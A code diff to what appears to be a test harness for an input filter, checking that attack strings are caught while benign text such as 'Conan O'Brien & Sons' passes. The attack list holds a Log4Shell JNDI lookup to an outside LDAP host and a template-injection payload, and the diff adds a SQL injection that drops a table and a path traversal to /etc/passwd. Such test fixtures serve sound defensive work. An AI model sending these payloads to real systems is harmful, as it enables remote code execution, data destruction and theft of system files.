@@ -38,6 +38,8 @@ ATTACKS = [
     "${jndi:ldap://198.51.100.7:1389/a}",
     "{{''.__class__.__mro__[1].__subclasses__()}}",
 ]
+# These are attacks only where a value begins: a number goes on as an expression, a path as another.
+FIRST = {"7 OR 1=1; DROP TABLE orders; --", "../../../../../../etc/passwd"}
 HONEST = [
     "Conan O'Brien & Sons",
     "please select the best tea from the table by the window",
@@ -119,7 +121,7 @@ def play(doors, texts, wanted):
 
 def each(doors, text, wanted):
     connections = {}
-    for variant in variants(text):
+    for variant in variants(text, text not in FIRST):
         # Only what is compressed must be held whole; everything else must do on a route that streams, too.
         path = "/held" if "gzip" in variant.name and variant.carrier.startswith("http") else "/stream"
         key = (variant.carrier, path)
